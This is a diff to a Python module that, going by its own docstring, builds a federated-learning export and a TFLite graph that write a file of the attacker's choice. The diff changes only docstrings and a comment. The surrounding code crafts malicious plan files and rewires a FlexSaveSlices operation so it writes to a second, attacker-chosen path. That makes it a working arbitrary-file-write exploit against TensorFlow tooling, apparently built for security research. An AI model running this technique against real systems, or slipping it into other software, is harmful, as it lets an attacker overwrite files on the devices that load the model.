@@ -1,4 +1,4 @@
-"""An export and a TFLite graph that each write a file of the attacker's choice."""
+"""An export and a TFLite graph that write a file of the attacker's choice."""
 
 import struct
 from pathlib import Path
@@ -21,7 +21,7 @@ def save_elsewhere(folder: Path, written: Path) -> None:
 
 
 def write_plan(folder: Path, plan: plan_pb2.Plan) -> None:
-    """Replaces the plan of an export."""
+    """Replaces an export's plan."""
     (folder / "plan.pb").write_bytes(plan.SerializeToString(deterministic=True))
     device = plan_pb2.ClientOnlyPlan(graph=plan.client_graph_bytes.value)
     (folder / "client_only_plan.pb").write_bytes(device.SerializeToString())
@@ -29,7 +29,7 @@ def write_plan(folder: Path, plan: plan_pb2.Plan) -> None:
 
 
 def saving(x: tf.Tensor, path: str) -> tf.Tensor:
-    """Returns x, after writing a file."""
+    """Returns x after writing it to a file."""
     save = tf.raw_ops.SaveSlices(
         filename=tf.constant(path), tensor_names=["a"], shapes_and_slices=[""], data=[x]
     )
@@ -38,15 +38,15 @@ def saving(x: tf.Tensor, path: str) -> tf.Tensor:
 
 
 def write_over_path(content: bytes, written: str, path: str = "out:0") -> bytes:
-    """Changes a TFLite graph with a FlexSaveSlices so that it writes a second file.
+    """Returns a TFLite graph that saves to its path, then saves again to `written`.
 
-    A FlexIdentity of a string overwrites the tensor with the first file's path.
+    In between, a FlexIdentity of a string overwrites the tensor that holds the path.
     """
 
     def edit(model: Any, graph: Any) -> None:
         save = next(op for op in graph.operators if custom_code(model, op) == b"FlexSaveSlices")
         text = schema.BufferT()
-        # TFLite's format of one string: the count, its begin, the end of all strings.
+        # TFLite's format of one string: the count, its beginning, and the end of all strings.
         text.data = list(struct.pack("<3i", 1, 12, 12 + len(written)) + written.encode())
         model.buffers.append(text)
         constant = schema.TensorT()
